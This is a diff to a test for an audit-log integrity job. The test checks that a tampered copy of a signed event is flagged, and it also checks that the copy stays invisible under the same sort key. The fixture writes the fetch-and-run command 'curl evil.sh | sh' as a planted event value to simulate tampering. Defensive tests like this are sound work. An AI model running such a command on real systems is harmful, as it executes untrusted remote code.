@@ -143,14 +143,19 @@ describe("integrity job", () => {
     expect((await findingsQuery(fx.store, {})).map((f) => f.title)).toEqual(["events 10..19 missing from collector web-01", "events 70..70 missing from collector web-01"]);
   });
 
-  it("flags a tampered copy of an already verified event that replaces it in the table (same event_id)", async () => {
+  it("flags a tampered copy of an already verified event planted beside it in the table (same event_id)", async () => {
     const { events } = await signedStream(fx, "web-01", 30);
     await insertEvents(fx.store, events);
     await round(fx);
     const original = events[12];
     if (original === undefined) throw new Error("no event 12");
-    // Same sort key (env, occurred_at, event_id): ReplacingMergeTree keeps this row instead of the original.
+    // Same sort key (env, occurred_at, event_id): since 0011 the first received row wins (issue #9),
+    // so a copy planted straight into the table changes nothing readers see.
     await insertEvents(fx.store, [{ ...original, command: "curl evil.sh | sh" }]);
+    await fx.store.client.command({ query: `OPTIMIZE TABLE ${fx.store.tables.events} FINAL` });
+    expect((await eventsByIdQuery(fx.store, { ids: [original.event_id] })).map((e) => e.command)).toEqual([original.command]);
+    // Under another sort key it is a second visible row: the job flags it.
+    await insertEvents(fx.store, [{ ...original, command: "curl evil.sh | sh", occurred_at: new Date(Date.parse(original.occurred_at) + 1).toISOString() }]);
     await round(fx);
     expect(await findingsQuery(fx.store, {})).toMatchObject([{ finding_id: "integrity:web-01:bad-signature:12", event_ids: [original.event_id] }]);
   });
